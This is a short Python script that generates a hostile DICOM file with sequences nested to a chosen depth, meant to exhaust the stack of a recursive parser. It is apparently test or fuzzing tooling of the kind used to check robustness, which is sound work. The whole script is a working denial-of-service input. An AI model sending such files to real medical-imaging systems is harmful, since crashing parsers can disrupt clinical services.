#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
# Write a hostile DICOM file: sequences nested DEPTH levels deep, a stack-exhaustion bomb for a
# recursive parser. usage: deep-nesting.py OUT DEPTH
import struct
import sys

SOP_CLASS = b"1.2.840.10008.5.1.4.1.1.7"  # Secondary Capture Image Storage
EXPLICIT_LE = b"1.2.840.10008.1.2.1"
UNDEFINED = 0xFFFFFFFF


def element(group, elem, vr, value):
    """One explicit VR little endian element with a 16-bit length."""
    if len(value) % 2:
        value += b"\0" if vr == "UI" else b" "
    return struct.pack("<HH", group, elem) + vr.encode() + struct.pack("<H", len(value)) + value


def main():
    out, depth = sys.argv[1], int(sys.argv[2])
    meta = struct.pack("<HH", 2, 1) + b"OB\0\0" + struct.pack("<I", 2) + b"\0\1"
    meta += element(2, 2, "UI", SOP_CLASS) + element(2, 3, "UI", b"2.25.99")
    meta += element(2, 0x10, "UI", EXPLICIT_LE)
    meta = struct.pack("<HH", 2, 0) + b"UL" + struct.pack("<HI", 4, len(meta)) + meta
    body = element(8, 0x16, "UI", SOP_CLASS) + element(8, 0x18, "UI", b"2.25.99")
    opening = struct.pack("<HH", 8, 0x1140) + b"SQ\0\0" + struct.pack("<I", UNDEFINED)
    opening += struct.pack("<HHI", 0xFFFE, 0xE000, UNDEFINED)
    closing = struct.pack("<HHI", 0xFFFE, 0xE00D, 0) + struct.pack("<HHI", 0xFFFE, 0xE0DD, 0)
    body += opening * depth + closing * depth
    with open(out, "wb") as f:
        f.write(b"\0" * 128 + b"DICM" + meta + body)


if __name__ == "__main__":
    main()
